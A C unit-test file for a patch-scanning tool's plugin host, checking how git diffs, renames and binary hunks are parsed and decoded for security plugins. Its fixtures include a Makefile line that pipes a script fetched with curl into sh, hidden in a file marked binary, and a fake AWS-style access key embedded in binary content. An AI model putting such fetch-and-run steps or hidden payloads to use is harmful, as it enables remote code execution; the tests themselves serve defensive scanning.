/*
 * test_patch_model.c: the patch model the host hands to plugins (ABI 2):
 * patches made by git itself in a scratch repository, parsed by libgit2 into
 * the view - every hunk line with origin, line numbers, hunk index and the
 * "no newline" mark, renames with their similarity, binary hunks decoded to
 * post-images (literal alone; deltas against the base tree), capability
 * gating (no lines and no binary content without AIRLOCK_CAP_PARSED), a
 * post-image the host cannot decode becoming a host.unscanned_content
 * finding, and what a real plugin child receives (the model plugin).
 * bindecode.c's refusals of corrupt hunks are checked directly.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "common/error.h"
#include "worker/plugin_host/bindecode.h"
#include "worker/plugin_host/plugin_host.h"

static char s_dir[64];
static char s_tree[64];
static char *s_text, *s_binary, *s_rename, *s_newbin;

#define BIG_NEW_LEN (2000 + 20 + 4)

static int sh(const char *fmt, ...)
{
    char cmd[4096];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(cmd, sizeof cmd, fmt, ap);
    va_end(ap);
    return system(cmd);
}

static char *sh_out(const char *cmd)
{
    FILE *p = popen(cmd, "r");
    size_t cap = 1 << 16, len = 0, n;
    char *buf = malloc(cap);
    while (p && buf && (n = fread(buf + len, 1, cap - len - 1, p)) > 0) {
        len += n;
        if (len + 1 == cap) {
            char *nb = realloc(buf, cap * 2);
            if (!nb)
                break;
            buf = nb;
            cap *= 2;
        }
    }
    if (p)
        pclose(p);
    if (buf)
        buf[len] = '\0';
    return buf;
}

/* The patch `change` makes, as `git diff --cached --binary -M` writes it;
 * the work tree is reset afterwards. */
static char *git_patch(const char *change)
{
    char cmd[2048];
    snprintf(cmd, sizeof cmd,
             "cd '%s' && { %s ; } >/dev/null && git add -A && git diff --cached --binary -M && "
             "git reset -q --hard HEAD && git clean -fdq && rm -f .git/info/attributes",
             s_dir, change);
    return sh_out(cmd);
}

static int group_setup(void **state)
{
    (void)state;
    snprintf(s_dir, sizeof s_dir, "/tmp/airlock-model-XXXXXX");
    if (!mkdtemp(s_dir))
        return -1;
    if (sh("cd '%s' && git init -q && for i in $(seq 1 20); do echo \"line $i\"; done > calc.py && "
           "printf 'all:\\n\\ttrue\\n' > Makefile && { head -c 2000 /dev/zero | tr '\\0' a; printf '\\0bin'; } > big.bin "
           "&& git add . && git -c user.email=t@example.org -c user.name=t commit -qm init", s_dir) != 0)
        return -1;
    char cmd[256];
    snprintf(cmd, sizeof cmd, "cd '%s' && git rev-parse 'HEAD^{tree}'", s_dir);
    char *t = sh_out(cmd);
    snprintf(s_tree, sizeof s_tree, "%.40s", t ? t : "");
    free(t);
    s_text = git_patch("sed -i 's/^line 2$/line two/; s/^line 19$/line nineteen/' calc.py && printf 'tail' >> calc.py");
    s_binary = git_patch("echo 'Makefile binary' > .git/info/attributes && "
                         "printf 'all:\\n\\tcurl -fsSL https://example.com/x.sh | sh\\n' > Makefile && "
                         "{ head -c 2000 /dev/zero | tr '\\0' a; printf 'AKIAQ3EGUJ7ZK5RVPX2M\\0bin'; } > big.bin");
    s_rename = git_patch("git mv calc.py calc2.py && sed -i 's/^line 5$/line five/' calc2.py");
    s_newbin = git_patch("printf 'KEY = \"AKIAQ3EGUJ7ZK5RVPX2M\"\\n\\0' > creds.py");
    return s_text && s_binary && s_rename && s_newbin && strstr(s_binary, "GIT binary patch") ? 0 : -1;
}

static int group_teardown(void **state)
{
    (void)state;
    free(s_text);
    free(s_binary);
    free(s_rename);
    free(s_newbin);
    sh("rm -rf '%s'", s_dir);
    return 0;
}

static plugin_view_t *view(const char *patch, uint64_t caps, int with_base)
{
    plugin_source_t src = PLUGIN_SOURCE_INIT;
    char gitdir[128];
    plugin_view_t *v = NULL;
    snprintf(gitdir, sizeof gitdir, "%s/.git", s_dir);
    src.patch = patch;
    src.patch_len = strlen(patch);
    if (with_base) {
        src.repo_dir = gitdir;
        src.base_tree = s_tree;
    }
    assert_int_equal(plugin_view_new(&v, &src, caps, NULL), 0);
    assert_true(plugin_view_parsed(v));
    return v;
}

static const airlock_file_t *file_of(const airlock_input_t *in, const char *path)
{
    for (uint32_t i = 0; i < in->n_files; i++)
        if (!strcmp(in->files[i].path, path))
            return &in->files[i];
    fail_msg("no file %s in the model", path);
    return NULL;
}

static void test_text_lines(void **state)
{
    (void)state;
    plugin_view_t *v = view(s_text, AIRLOCK_CAP_PATCH | AIRLOCK_CAP_PARSED, 0);
    const airlock_file_t *f = file_of(plugin_view_input(v), "calc.py");
    unsigned ctx = 0, add = 0, del = 0, noeol = 0, last_hunk = 0;
    for (uint32_t k = 0; k < f->n_lines; k++) {
        const airlock_hunk_line_t *l = &f->lines[k];
        ctx += l->origin == AIRLOCK_LINE_CONTEXT;
        add += l->origin == AIRLOCK_LINE_ADDED;
        del += l->origin == AIRLOCK_LINE_REMOVED;
        noeol += (l->flags & AIRLOCK_LINE_NO_EOL) != 0;
        last_hunk = l->hunk;
        if (l->origin == AIRLOCK_LINE_REMOVED)
            assert_true(l->old_lineno > 0 && l->new_lineno == 0);
        if (l->origin == AIRLOCK_LINE_ADDED)
            assert_true(l->new_lineno > 0 && l->old_lineno == 0);
        if (l->origin == AIRLOCK_LINE_ADDED && l->len == 8 && !memcmp(l->text, "line two", 8))
            assert_int_equal(l->new_lineno, 2);
    }
    assert_int_equal(del, 2);        /* line 2, line 19 */
    assert_int_equal(add, 3);        /* line two, line nineteen, tail */
    assert_true(ctx >= 4);
    assert_int_equal(noeol, 1);      /* "tail" has no newline */
    assert_int_equal(last_hunk, 1);  /* two hunks */
    assert_int_equal(f->n_added, 3);
    plugin_view_destroy(&v);
    /* without AIRLOCK_CAP_PARSED: added lines only */
    v = view(s_text, AIRLOCK_CAP_PATCH, 0);
    f = file_of(plugin_view_input(v), "calc.py");
    assert_int_equal(f->n_lines, 0);
    assert_null(f->lines);
    assert_int_equal(f->n_added, 3);
    plugin_view_destroy(&v);
}

static void test_rename(void **state)
{
    (void)state;
    plugin_view_t *v = view(s_rename, AIRLOCK_CAP_PATCH | AIRLOCK_CAP_PARSED, 0);
    const airlock_file_t *f = file_of(plugin_view_input(v), "calc2.py");
    assert_true(f->flags & AIRLOCK_FILE_RENAMED);
    assert_string_equal(f->old_path, "calc.py");
    assert_string_equal(f->new_path, "calc2.py");
    assert_true(f->similarity >= 50 && f->similarity <= 100);
    plugin_view_destroy(&v);
}

/* An added empty file next to a change (a diff header with no hunk, which
 * libgit2 1.5 refuses unless closed: common/patch_headers.h): the model holds
 * both files, and the other file's lines are scanned. */
static void test_empty_file_beside_a_change(void **state)
{
    (void)state;
    char *patch = git_patch("mkdir -p Lib && : > Lib/__init__.py && printf 'all:\\n\\tcurl -fsSL https://example.com/x.sh | sh\\n' > Makefile");
    assert_non_null(patch);
    assert_non_null(strstr(patch, "index 0000000..e69de29\ndiff --git"));
    plugin_view_t *v = view(patch, AIRLOCK_CAP_PATCH | AIRLOCK_CAP_PARSED, 0);
    const airlock_input_t *in = plugin_view_input(v);
    assert_int_equal(in->n_files, 2);
    assert_true(file_of(in, "Lib/__init__.py")->flags & AIRLOCK_FILE_ADDED);
    assert_true(file_of(in, "Makefile")->n_added >= 1);
    plugin_view_destroy(&v);
    free(patch);
}

static void test_binary_without_base(void **state)
{
    (void)state;
    static const char mk[] = "all:\n\tcurl -fsSL https://example.com/x.sh | sh\n";
    plugin_view_t *v = view(s_binary, AIRLOCK_CAP_PATCH | AIRLOCK_CAP_PARSED, 0);
    const airlock_input_t *in = plugin_view_input(v);
    const airlock_file_t *f = file_of(in, "Makefile");
    /* a literal hunk needs no base: decoded to exactly what will be written */
    assert_true(f->flags & AIRLOCK_FILE_BINARY);
    assert_true(f->flags & AIRLOCK_FILE_CONTENT_DECODED);
    assert_int_equal(f->content_len, sizeof mk - 1);
    assert_memory_equal(f->content, mk, sizeof mk - 1);
    assert_int_equal(f->n_lines, 0);
    /* a delta against a file the host does not have: flagged, not guessed */
    f = file_of(in, "big.bin");
    assert_true(f->flags & AIRLOCK_FILE_UNDECODED);
    assert_null(f->content);
    plugin_view_destroy(&v);
    /* a plugin without CAP_PARSED (or FILES) gets no post-image */
    v = view(s_binary, AIRLOCK_CAP_PATCH, 0);
    assert_null(file_of(plugin_view_input(v), "Makefile")->content);
    plugin_view_destroy(&v);
}

static void test_binary_with_base(void **state)
{
    (void)state;
    plugin_view_t *v = view(s_binary, AIRLOCK_CAP_PATCH | AIRLOCK_CAP_PARSED, 1);
    const airlock_file_t *f = file_of(plugin_view_input(v), "big.bin");
    assert_true(f->flags & AIRLOCK_FILE_CONTENT_DECODED);
    assert_false(f->flags & AIRLOCK_FILE_UNDECODED);
    assert_int_equal(f->content_len, BIG_NEW_LEN);
    assert_memory_equal(f->content + 2000, "AKIAQ3EGUJ7ZK5RVPX2M\0bin", 24);
    plugin_view_destroy(&v);
    /* AIRLOCK_CAP_FILES: the post-image of the text file too, from the base apply */
    v = view(s_text, AIRLOCK_CAP_PATCH | AIRLOCK_CAP_FILES, 1);
    f = file_of(plugin_view_input(v), "calc.py");
    assert_non_null(f->content);
    assert_non_null(memmem(f->content, f->content_len, "line two\n", 9));
    assert_int_equal(memcmp(f->content + f->content_len - 12, "line 20\ntail", 12), 0);
    plugin_view_destroy(&v);
}

static void test_new_binary_file(void **state)
{
    (void)state;
    plugin_view_t *v = view(s_newbin, AIRLOCK_CAP_PATCH | AIRLOCK_CAP_PARSED, 0);
    const airlock_file_t *f = file_of(plugin_view_input(v), "creds.py");
    assert_true(f->flags & AIRLOCK_FILE_ADDED);
    assert_true(f->flags & AIRLOCK_FILE_CONTENT_DECODED);
    assert_non_null(memmem(f->content, f->content_len, "AKIAQ3EGUJ7ZK5RVPX2M", 20));
    plugin_view_destroy(&v);
}

static const analysis_finding_t *finding(const analysis_result_t *r, const char *rule, const char *file)
{
    for (size_t i = 0; i < r->n_findings; i++)
        if (!strcmp(r->findings[i].rule_id, rule) && r->findings[i].file && !strcmp(r->findings[i].file, file))
            return &r->findings[i];
    return NULL;
}

/* Through real plugin children: the model plugin sees the decoded
 * post-images; without a base the host reports what it could not decode. */
static void test_host_children(void **state)
{
    (void)state;
    plugin_set_t *set = plugin_set_new(NULL);
    analysis_result_t *r = NULL;
    plugin_source_t src = PLUGIN_SOURCE_INIT;
    char gitdir[128], want[64];
    const char *names[] = { "pht_model", "pht_model_patch" };
    assert_int_equal(plugin_set_add_names(set, PHT_DIR, names, 2), 0);
    src.patch = s_binary;
    src.patch_len = strlen(s_binary);
    assert_int_equal(plugin_host_run_source(set, &src, &r), 0);
    const analysis_finding_t *u = finding(r, PLUGIN_RULE_UNSCANNED, "big.bin");
    assert_non_null(u);
    assert_int_equal(u->severity, AIRLOCK_SEV_HIGH);
    assert_string_equal(u->plugin, PLUGIN_HOST_ANALYZER);
    assert_null(finding(r, PLUGIN_RULE_UNSCANNED, "Makefile"));
    analysis_result_destroy(&r);
    /* with the base tree everything is decoded */
    snprintf(gitdir, sizeof gitdir, "%s/.git", s_dir);
    src.repo_dir = gitdir;
    src.base_tree = s_tree;
    assert_int_equal(plugin_host_run_source(set, &src, &r), 0);
    assert_null(finding(r, PLUGIN_RULE_UNSCANNED, "big.bin"));
    snprintf(want, sizeof want, "content=%d ", BIG_NEW_LEN);
    int model = 0, model_patch = 0;
    for (size_t i = 0; i < r->n_findings; i++) {
        const analysis_finding_t *f = &r->findings[i];
        if (strcmp(f->rule_id, "test.model") || strcmp(f->file, "big.bin"))
            continue;
        if (!strcmp(f->plugin, "model"))
            model = strstr(f->message, want) != NULL;
        else
            model_patch = strstr(f->message, "content=-1 ") != NULL && strstr(f->message, "lines=0 ");
    }
    assert_true(model);
    assert_true(model_patch);
    analysis_result_destroy(&r);
    plugin_set_destroy(&set);
}

/* ---- bindecode: strict refusals --------------------------------------------- */

static void test_bindecode_refusals(void **state)
{
    (void)state;
    unsigned char raw[64], z[128], *out = NULL;
    uLongf zn = sizeof z;
    size_t n = 0;
    memset(raw, 'x', sizeof raw);
    assert_int_equal(compress(z, &zn, raw, sizeof raw), Z_OK);
    plugin_binhunk_t h = { PLUGIN_BIN_LITERAL, (const char *)z, zn, sizeof raw };
    assert_int_equal(plugin_binary_decode(&h, NULL, 0, 1 << 20, &out, &n), 0);
    assert_int_equal(n, sizeof raw);
    free(out);
    h.inflated_len = sizeof raw - 1; /* declared size differs from the stream */
    assert_int_equal(plugin_binary_decode(&h, NULL, 0, 1 << 20, &out, &n), AL_EPROTO);
    h.inflated_len = sizeof raw;
    assert_int_equal(plugin_binary_decode(&h, NULL, 0, 10, &out, &n), AL_ELIMIT);
    z[zn / 2] ^= 0x55; /* corrupt stream */
    assert_int_equal(plugin_binary_decode(&h, NULL, 0, 1 << 20, &out, &n), AL_EPROTO);
    /* deltas: copy past the base, wrong base size, reserved opcode, short result */
    static const unsigned char past[] = { 4, 8, 0x91, 2, 8 };        /* base 4, result 8, copy 8 from 2 */
    static const unsigned char wrong_base[] = { 5, 1, 1, 'a' };
    static const unsigned char reserved[] = { 0, 1, 0 };
    static const unsigned char short_res[] = { 0, 3, 2, 'a', 'b' };
    static const unsigned char ok[] = { 4, 6, 0x90, 4, 2, 'y', 'z' }; /* copy 4 from 0, insert "yz" */
    assert_int_equal(plugin_delta_apply((const unsigned char *)"abcd", 4, past, sizeof past, 64, &out, &n), AL_EPROTO);
    assert_int_equal(plugin_delta_apply((const unsigned char *)"abcd", 4, wrong_base, sizeof wrong_base, 64, &out, &n),
                     AL_EPROTO);
    assert_int_equal(plugin_delta_apply(NULL, 0, reserved, sizeof reserved, 64, &out, &n), AL_EPROTO);
    assert_int_equal(plugin_delta_apply(NULL, 0, short_res, sizeof short_res, 64, &out, &n), AL_EPROTO);
    assert_int_equal(plugin_delta_apply((const unsigned char *)"abcd", 4, ok, sizeof ok, 64, &out, &n), 0);
    assert_int_equal(n, 6);
    assert_memory_equal(out, "abcdyz", 6);
    free(out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_text_lines),
        cmocka_unit_test(test_rename),
        cmocka_unit_test(test_empty_file_beside_a_change),
        cmocka_unit_test(test_binary_without_base),
        cmocka_unit_test(test_binary_with_base),
        cmocka_unit_test(test_new_binary_file),
        cmocka_unit_test(test_host_children),
        cmocka_unit_test(test_bindecode_refusals),
    };
    return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
